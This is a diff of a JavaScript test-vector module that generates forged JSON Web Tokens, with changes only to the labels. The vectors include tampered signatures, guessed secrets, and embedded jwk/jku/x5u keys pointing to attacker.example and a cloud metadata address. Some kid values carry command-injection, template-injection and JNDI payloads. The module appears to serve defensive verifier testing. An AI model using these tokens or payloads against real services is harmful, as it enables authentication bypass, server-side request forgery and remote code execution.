@@ -1,4 +1,4 @@
-// Attacks by the signature, and by a key that the token brings along. Each vector makes a token.
+// Attacks through the signature, and through a key inside the token. Each vector returns a token.
 import { createHash, createPublicKey } from 'node:crypto';
 import { forge, HS256, luis, mac, part } from '../../support/forged.mjs';
 import { SECRET, token } from '../../support/tokens.mjs';
@@ -20,14 +20,14 @@ export const SIGNATURES = {
     'cut at its start': () =>
       ((text) => `${text}.${mac(text).subarray(1).toString('base64url')}`)(`${part(HS256)}.${part(luis())}`),
     ...named(['A', 'AA', 'AAAA', '.', '..', '=', '%00', '#', '?'], (tail) => [
-      `with ${tail} behind it`,
+      `with ${tail} after it`,
       () => forge(HS256, luis()) + tail,
     ]),
-    'with a byte of 0 behind it': () =>
+    'with a zero byte after it': () =>
       ((text) => `${text}.${Buffer.concat([mac(text), Buffer.alloc(1)]).toString('base64url')}`)(
         `${part(HS256)}.${part(luis())}`,
       ),
-    'with a byte of 0 before it': () =>
+    'with a zero byte before it': () =>
       ((text) => `${text}.${Buffer.concat([Buffer.alloc(1), mac(text)]).toString('base64url')}`)(
         `${part(HS256)}.${part(luis())}`,
       ),
@@ -52,7 +52,7 @@ export const SIGNATURES = {
     'as hexadecimal digits': () => ((text) => `${text}.${mac(text).toString('hex')}`)(`${part(HS256)}.${part(luis())}`),
     'as hexadecimal digits in base64': () =>
       ((text) => `${text}.${part(mac(text).toString('hex'))}`)(`${part(HS256)}.${part(luis())}`),
-    'in base64 twice': () =>
+    'encoded in base64 twice': () =>
       ((text) => `${text}.${part(mac(text).toString('base64url'))}`)(`${part(HS256)}.${part(luis())}`),
     'all zero': () => forge(HS256, luis(), { signature: part(Buffer.alloc(32)) }),
     'all ones': () => forge(HS256, luis(), { signature: part(Buffer.alloc(32, 255)) }),
@@ -74,12 +74,12 @@ export const SIGNATURES = {
         part(HS256),
         part(luis()),
       ),
-    'over what the parts decode to': () =>
+    'over the decoded parts': () =>
       ((payload) =>
         `${part(HS256)}.${part(payload)}.${mac(`${JSON.stringify(HS256)}.${payload}`).toString('base64url')}`)(
         claims(),
       ),
-    'over another division of the same text': () =>
+    'over the same text with the dot elsewhere': () =>
       ((header, payload, text) => `${header}.${payload}.${mac(text).toString('base64url')}`)(
         part(HS256),
         part(luis()),
@@ -98,7 +98,7 @@ export const SIGNATURES = {
         ['"undefined"', 'undefined'],
         ['"null"', 'null'],
         ['the name of the variable', 'JWT_SECRET'],
-        ['the secret in capitals', SECRET.toUpperCase()],
+        ['the secret in upper case', SECRET.toUpperCase()],
         ['the secret and a line break', `${SECRET}\n`],
         ['white space and the secret', ` ${SECRET}`],
         ['the secret without its last byte', SECRET.slice(0, -1)],
@@ -110,19 +110,19 @@ export const SIGNATURES = {
         ['the hash of the secret', createHash('sha256').update(SECRET).digest()],
         ['the secret twice', SECRET + SECRET],
         ['the secret in UTF-16', Buffer.from(SECRET, 'utf16le')],
-        ['the public key of nobody', createPublicKey(rsa.privateKey).export({ format: 'der', type: 'pkcs1' })],
+        ["the attacker's public key", createPublicKey(rsa.privateKey).export({ format: 'der', type: 'pkcs1' })],
       ],
       ([name, secret]) => [`keyed with ${name}`, () => forge(HS256, luis(), { secret })],
     ),
   },
 
-  'parts left out and changed': Object.fromEntries(
+  'omitted and changed parts': Object.fromEntries(
     [
-      ['the payload left out', ([header, , signature]) => `${header}..${signature}`],
-      ['the payload and its dot left out', ([header, , signature]) => `${header}.${signature}`],
-      ['the header left out', ([, payload, signature]) => `.${payload}.${signature}`],
-      ['the header and its dot left out', ([, payload, signature]) => `${payload}.${signature}`],
-      ['header and signature left out', ([, payload]) => `.${payload}.`],
+      ['the payload omitted', ([header, , signature]) => `${header}..${signature}`],
+      ['the payload and its dot omitted', ([header, , signature]) => `${header}.${signature}`],
+      ['the header omitted', ([, payload, signature]) => `.${payload}.${signature}`],
+      ['the header and its dot omitted', ([, payload, signature]) => `${payload}.${signature}`],
+      ['header and signature omitted', ([, payload]) => `.${payload}.`],
       ['the payload alone', ([, payload]) => payload],
       ['the header alone', ([header]) => `${header}..`],
       ['the signature alone', ([, , signature]) => `..${signature}`],
@@ -149,7 +149,7 @@ export const SIGNATURES = {
     ].map(([name, of]) => [name, () => of(forge(HS256, luis()).split('.'))]),
   ),
 
-  'keys that the token brings along (RFC 8725 2.9, 3.10, CVE-2018-0114)': {
+  'keys inside the token (RFC 8725 2.9, 3.10, CVE-2018-0114)': {
     'jwk, RSA': () => byLibrary('RS256', rsa, { jwk: jwkOf(rsa) }),
     'jwk, EC': () => byLibrary('ES256', ec, { jwk: jwkOf(ec) }),
     'jwk, Ed25519': () => byLibrary('EdDSA', ed, { jwk: jwkOf(ed) }),
@@ -157,21 +157,21 @@ export const SIGNATURES = {
     'jwk with an empty key': () => withHeader({ jwk: { kty: 'oct', k: '' } }, { secret: '' }),
     jwks: () => withHeader({ jwks: { keys: [{ kty: 'oct', k: part(OTHER) }] } }, { secret: OTHER }),
     jku: () => byLibrary('RS256', rsa, { jku: 'https://attacker.example/jwks.json', kid: '1' }),
-    'jku with a fragment of a trusted host': () =>
+    'jku with a trusted host in its fragment': () =>
       byLibrary('RS256', rsa, { jku: 'https://attacker.example/#login.example.com' }),
-    'jku with credentials in the place of a host': () =>
+    'jku with a trusted host as its user name': () =>
       byLibrary('RS256', rsa, { jku: 'https://login.example.com@attacker.example/' }),
-    'jku to the metadata of a cloud': () =>
+    'jku to a cloud metadata service': () =>
       withHeader({ jku: 'http://169.254.169.254/latest/meta-data/' }, { secret: OTHER }),
-    'jku as data': () =>
+    'jku as a data URL': () =>
       withHeader({ jku: `data:application/json,{"keys":[{"kty":"oct","k":"${part(OTHER)}"}]}` }, { secret: OTHER }),
     'jku to a file': () => withHeader({ jku: 'file:///dev/null' }, { secret: '' }),
     x5u: () => byLibrary('RS256', rsa, { x5u: 'https://attacker.example/cert.pem' }),
     x5c: () => byLibrary('RS256', rsa, { x5c: [derOf(rsa).toString('base64')] }),
     'x5c, keyed with it': () => withHeader({ x5c: [derOf(rsa).toString('base64')] }, { secret: derOf(rsa) }),
-    'x5t of a certificate of its own': () =>
+    "x5t of the attacker's certificate": () =>
       byLibrary('RS256', rsa, { x5t: createHash('sha1').update(derOf(rsa)).digest('base64url') }),
-    'x5t#S256 of a certificate of its own': () =>
+    "x5t#S256 of the attacker's certificate": () =>
       byLibrary('RS256', rsa, { 'x5t#S256': createHash('sha256').update(derOf(rsa)).digest('base64url') }),
     ...named(
       [
@@ -191,13 +191,13 @@ export const SIGNATURES = {
         ['| id', ''],
         ['$(id)', ''],
         ['{{7*7}}', '49'],
-        // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the attack
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: the string itself is the attack
         ['${jndi:ldap://attacker.example/a}', ''],
         ['https://attacker.example/key', OTHER],
         [part(OTHER), OTHER],
       ],
       ([kid, secret]) => [
-        `kid ${kid} and the key that it would lead to (CVE-2021-41106)`,
+        `kid ${kid}, signed with the key that it would lead to (CVE-2021-41106)`,
         () => withHeader({ kid }, { secret }),
       ],
     ),
